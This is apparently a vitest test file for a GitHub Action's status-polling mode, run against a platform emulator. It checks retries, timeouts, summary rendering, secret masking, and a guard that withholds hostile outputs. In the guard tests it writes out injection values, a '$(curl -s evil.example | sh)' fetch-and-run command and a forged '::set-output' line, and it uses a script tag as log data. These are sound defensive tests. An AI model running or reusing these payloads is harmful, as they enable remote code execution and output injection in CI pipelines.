/**
 * The status runner (src/modes/status/run.ts) in process: `run()` of src/main.ts with a runner's
 * environment (helpers/in-process.ts) against the platform emulator, its summary, outputs, log
 * and annotations captured. Updates are short (≈1 s) so each run takes a second or two. Cancelling
 * by SIGTERM needs a process: status.e2e.test.ts.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startPlatformEmulator, type PlatformEmulator } from '../emulator/platform/server.js';
import { startGitHubEmulator, type GitHubEmulator } from '../emulator/github/server.js';
import { runInProcess, type InProcessRun } from './helpers/in-process.js';

/** GITHUB_SHA of every run (run-action's default). */
const RUN_SHA = '0123456789abcdef0123456789abcdef01234567';
/** A commit other than the run's. */
const OTHER_SHA = 'fedcba9876543210fedcba9876543210fedcba98';

let emu: PlatformEmulator;

beforeAll(async () => {
  emu = await startPlatformEmulator({ update: { queuedMs: 200, runningMs: 600 } });
});

afterEach(() => {
  emu.clearFaults();
});

afterAll(async () => {
  await emu.close();
});

function inputs(extra: Record<string, string>): Record<string, string> {
  // The live check has its own tests (status-live-run.test.ts): no request to a real site here.
  return { 'admin-key': emu.adminKey, mode: 'status', 'api-url': emu.url, verify: 'off', ...extra };
}

/** Requests of one endpoint (and one status id, when given). */
function requestsOf(endpoint: string, id?: string) {
  return emu.requests.filter(
    (r) => r.endpoint === endpoint && (id === undefined || r.path.endsWith(`/${id}`)),
  );
}

/** The key and presigned signatures appear nowhere the run wrote. */
function expectNoSecrets(run: InProcessRun): void {
  // `::add-mask::` is how the runner learns to mask the key: the one place it must appear.
  const stdout = run.stdout
    .split('\n')
    .filter((l) => l !== `::add-mask::${emu.adminKey}`)
    .join('\n');
  const everything = [stdout, run.stderr, run.summary, JSON.stringify(run.outputs)].join('\n');
  expect(everything).not.toContain(emu.adminKey);
  expect(everything).not.toContain('X-Amz-Signature');
}

/** `Status: …` lines of the log, in order. */
function statusLines(run: InProcessRun): string[] {
  return run.stdout
    .split('\n')
    .filter((l) => l.startsWith('Status: '))
    .map((l) => l.replace(/ \(\+.*\)$/, ''));
}

function annotations(run: InProcessRun, command: string): string[] {
  return run.annotations.filter((a) => a.command === command).map((a) => a.message);
}

describe('mode: status', () => {
  it('tracks a successful update and reports what it built', async () => {
    const id = emu.createUpdate({
      commitSha: OTHER_SHA,
      filesChanged: {
        added: ['guides/new-page.mdx'],
        modified: ['quickstart.mdx', 'docs.json'],
        removed: ['guides/old|page.mdx'],
      },
    });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id }) });

    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(run.outputs).toMatchObject({
      outcome: 'success',
      status: 'success',
      'status-id': id,
      'commit-sha': OTHER_SHA,
    });
    expect(JSON.parse(run.outputs['files-changed'] ?? '')).toEqual({
      added: ['guides/new-page.mdx'],
      modified: ['quickstart.mdx', 'docs.json'],
      removed: ['guides/old|page.mdx'],
    });

    // One line per change of status, inside a log group.
    // (Which of queued/in_progress the first look sees depends on how fast node starts.)
    const lines = statusLines(run);
    const order = ['Status: queued', 'Status: in_progress', 'Status: success'];
    expect(lines.at(-1)).toBe('Status: success');
    expect(lines).toEqual(order.filter((l) => lines.includes(l)));
    const group = run.stdout.indexOf(`::group::Docs update ${id}`);
    const end = run.stdout.indexOf('::endgroup::');
    expect(group).toBeGreaterThan(-1);
    expect(run.stdout.indexOf(lines[0] ?? '')).toBeGreaterThan(group);
    expect(run.stdout.indexOf('Status: success')).toBeLessThan(end);

    // The update built another commit than this run's.
    const notices = annotations(run, 'notice');
    expect(notices).toHaveLength(1);
    expect(notices[0]).toContain(OTHER_SHA);
    expect(notices[0]).toContain(RUN_SHA);

    // The summary: heading, facts, changed files grouped, logs escaped.
    const md = run.summary;
    expect(md).toMatch(/^## ✅ Docs update succeeded/m);
    expect(md).toContain('> Deployment succeeded');
    expect(md).toContain(
      `[\`${OTHER_SHA.slice(0, 7)}\`](https://github.com/acme/docs/commit/${OTHER_SHA})`,
    );
    expect(md).toContain('Ada Lovelace');
    expect(md).toMatch(/<img src="http:\/\/127\.0\.0\.1:\d+\/avatars\/ada\.png" width="20"/);
    expect(md).toMatch(/<img src="http:\/\/127\.0\.0\.1:\d+\/screenshots\/light\.png"/);
    expect(md).toMatch(/<img src="http:\/\/127\.0\.0\.1:\d+\/screenshots\/dark\.png"/);
    expect(md).toContain('### Files changed: 4 (1 added, 2 modified, 1 removed)');
    expect(md).toContain('| added | `guides/new-page.mdx` |');
    expect(md).toContain('| modified | `quickstart.mdx` |');
    expect(md).toContain('| modified | `docs.json` |');
    expect(md).toContain('| removed | `guides/old\\|page.mdx` |');
    expectLogBlockIntact(md, 'Deployment succeeded');
    expectNoSecrets(run);
  });

  it('fails the step with the update’s summary when the update fails', async () => {
    const id = emu.createUpdate({ outcome: 'failure', commitSha: RUN_SHA });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id }) });

    expect(run.exitCode).not.toBe(0);
    expect(run.outputs).toMatchObject({
      outcome: 'failure',
      status: 'failure',
      'commit-sha': RUN_SHA,
    });
    const errors = annotations(run, 'error');
    expect(
      errors.some((e) => e.includes('broken link to /guides/missing in guides/intro.mdx')),
    ).toBe(true);
    expect(annotations(run, 'notice')).toEqual([]);
    expect(run.summary).toMatch(/^## ❌ Docs update failed/m);
    expectLogBlockIntact(run.summary, 'Build failed with 1 error');
    expectNoSecrets(run);
  });

  it('triggers an update, retrying a 429, then tracks it', async () => {
    emu.inject({ endpoint: 'triggerUpdate', kind: 'status', status: 429, retryAfter: '1' });
    const before = requestsOf('triggerUpdate').length;
    const run = await runInProcess({
      inputs: inputs({ trigger: 'true', 'project-id': emu.projectId }),
    });

    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    const triggers = requestsOf('triggerUpdate').slice(before);
    expect(triggers.map((r) => r.status)).toEqual([429, 202]);
    expect(run.stdout).toMatch(
      /Retrying triggerUpdate in 1(\.0)? s: attempt 1 failed \(HTTP 429\)/,
    );
    const id = run.outputs['status-id'] ?? '';
    expect(id).toMatch(/^[0-9a-f]{24}$/);
    expect(run.stdout).toContain(`status id ${id}`);
    expect(requestsOf('getUpdateStatus', id).length).toBeGreaterThanOrEqual(2);
    expect(run.outputs).toMatchObject({ outcome: 'success', status: 'success' });
    expectNoSecrets(run);
  });

  it('looks once and reports with `wait: false`', async () => {
    const id = emu.createUpdate({ queuedMs: 60_000 });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id, wait: 'false' }) });

    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(requestsOf('getUpdateStatus', id)).toHaveLength(1);
    expect(run.outputs).toMatchObject({ outcome: 'success', status: 'queued', 'status-id': id });
    expect(run.summary).toMatch(/^## ⏳ Docs update queued/m);
    expectNoSecrets(run);
  });

  it('explains an unknown status id', async () => {
    const run = await runInProcess({ inputs: inputs({ 'status-id': 'no_such_update' }) });

    expect(run.exitCode).not.toBe(0);
    expect(run.outputs.outcome).toBe('failure');
    expect(requestsOf('getUpdateStatus', 'no_such_update')).toHaveLength(1);
    const error = annotations(run, 'error').join('\n');
    expect(error).toContain('"no_such_update"');
    expect(error).toContain('404');
    expect(error).toContain('`statusId`');
    expect(error).toContain('POST /v1/project/update/{projectId}');
    expect(error).toContain('`trigger: true`');
    expect(run.summary).toMatch(/^## ❌ Docs update: could not be read/m);
    expectNoSecrets(run);
  });

  it('warns once about an undocumented status and keeps polling', async () => {
    const id = emu.createUpdate({ statusOverride: 'exploding', queuedMs: 0, runningMs: 4_000 });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id }) });

    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(requestsOf('getUpdateStatus', id).length).toBeGreaterThanOrEqual(3);
    expect(statusLines(run)).toEqual(['Status: exploding', 'Status: success']);
    const warnings = annotations(run, 'warning').filter((w) => w.includes('exploding'));
    expect(warnings).toHaveLength(1);
    expect(run.outputs).toMatchObject({ outcome: 'success', status: 'success' });
    expectNoSecrets(run);
  });

  it('rides out 503s and connection resets while polling', async () => {
    const id = emu.createUpdate();
    emu.inject({ endpoint: 'getUpdateStatus', kind: 'status', status: 503, times: 2 });
    emu.inject({ endpoint: 'getUpdateStatus', kind: 'reset' });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id }) });

    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(run.outputs).toMatchObject({ outcome: 'success', status: 'success' });
    const seen = requestsOf('getUpdateStatus', id).map((r) => r.status);
    expect(seen.slice(0, 4)).toEqual([503, 503, 0, 200]);
    expect(run.stdout).toContain('failed (HTTP 503)');
    expect(run.stdout).toMatch(/Retrying getUpdateStatus .*attempt 3 failed/);
    expect(new Set(statusLines(run)).size).toBe(statusLines(run).length);
    expectNoSecrets(run);
  });

  it('times out with the last known status', async () => {
    const id = emu.createUpdate({ queuedMs: 0, runningMs: 60_000 });
    const run = await runInProcess({ inputs: inputs({ 'status-id': id, timeout: '3s' }) });

    expect(run.exitCode).not.toBe(0);
    expect(run.outputs).toMatchObject({
      outcome: 'timeout',
      status: 'in_progress',
      'status-id': id,
    });
    // Several looks, one line: the status did not change.
    expect(requestsOf('getUpdateStatus', id).length).toBeGreaterThanOrEqual(2);
    expect(statusLines(run)).toEqual(['Status: in_progress']);
    const error = annotations(run, 'error').join('\n');
    expect(error).toContain('Timed out after 3 s');
    expect(error).toContain('last known status: `in_progress`');
    expect(run.summary).toMatch(/^## ⏱️ Docs update: timed out after 3 s while `in_progress`/m);
    expectNoSecrets(run);
  });
});

/**
 * The guard (src/guard.ts) on the status runner's outputs: a platform that answers a triggered
 * update with a status id (and commit sha, and a removed file) holding a line break or `$(…)`.
 */
describe('the guard on `mode: status` outputs', () => {
  let platform: PlatformEmulator;
  let github: GitHubEmulator;

  beforeAll(async () => {
    [platform, github] = await Promise.all([
      startPlatformEmulator({
        seed: 19,
        triggerLimit: { count: 1_000, windowMs: 1_000 },
        update: { queuedMs: 0, runningMs: 150 },
      }),
      startGitHubEmulator(),
    ]);
  });
  afterEach(() => {
    platform.setHostile(undefined);
  });
  afterAll(async () => {
    await Promise.all([platform.close(), github.close()]);
  });

  const warnings = (run: InProcessRun): string[] =>
    run.annotations.filter((a) => a.command === 'warning').map((a) => a.message);

  /** Warnings about output `name` being withheld. */
  const withheld = (run: InProcessRun, name: string): string[] =>
    warnings(run).filter((w) => w.includes(`\`${name}\` output is left unset`));

  it.each([
    ['a line break', '\n::set-output name=outcome::PWN'],
    ['$(…)', '$(curl -s evil.example | sh)'],
  ])('withholds a status id holding %s from `status-id`, with one warning', async (_, hostile) => {
    platform.setHostile(hostile);
    const run = await runInProcess({
      inputs: {
        'admin-key': platform.adminKey,
        'api-url': platform.url,
        'project-id': platform.projectId,
        'github-token': github.token,
        timeout: '30s',
        mode: 'status',
        trigger: 'true',
        verify: 'off',
      },
      env: github.env(),
    });

    expect(run.outputs.outcome, run.stdout.slice(-2000)).toBe('success');
    expect(run.outputs['status-id']).toBeUndefined();
    // The commit sha came back hostile too: withheld as not a hex digest.
    expect(run.outputs['commit-sha']).toBeUndefined();
    expect(run.outputs.status).toBe('success');
    const why = withheld(run, 'status-id');
    expect(why).toHaveLength(1);
    expect(why[0]).toContain('not an id');
    for (const w of warnings(run)) {
      expect(w).not.toContain('PWN');
      expect(w).not.toContain('$(');
    }
    // `files-changed` is JSON: file names stay data inside its strings, as JSON allows.
    const { 'files-changed': files, ...scalars } = run.outputs;
    expect(JSON.stringify(scalars)).not.toContain(hostile.trim());
    expect(JSON.parse(files ?? '')).toHaveProperty('removed', [hostile]);
  });
});

/**
 * The build log block of the summary: collapsed, newest line first, and every hostile line of
 * the emulator's log (fences, HTML, pipes) stays inside the one fenced block.
 */
function expectLogBlockIntact(md: string, newest: string): void {
  const start = md.indexOf('<details><summary>Build log:');
  expect(start).toBeGreaterThan(-1);
  const lines = md.slice(start).split('\n');
  const open = lines.findIndex((l) => /^`{3,}text$/.test(l));
  const fence = (lines[open] ?? '').replace('text', '');
  expect(fence.length).toBeGreaterThan(3);
  const close = lines.findIndex((l, i) => i > open && l === fence);
  const body = lines.slice(open + 1, close);
  expect(lines[close + 2]).toBe('</details>');
  expect(body[0]).toContain(newest);
  expect(body.some((l) => l.includes('code block contains ``` inside a fence'))).toBe(true);
  expect(body.some((l) => l.includes('<script>alert("logs")</script>'))).toBe(true);
  expect(body.some((l) => l.includes('"a | b" has an unescaped | pipe'))).toBe(true);
  // Outside the code block, no raw script tag.
  const outside = md.replace(body.join('\n'), '');
  expect(outside).not.toContain('<script>');
}
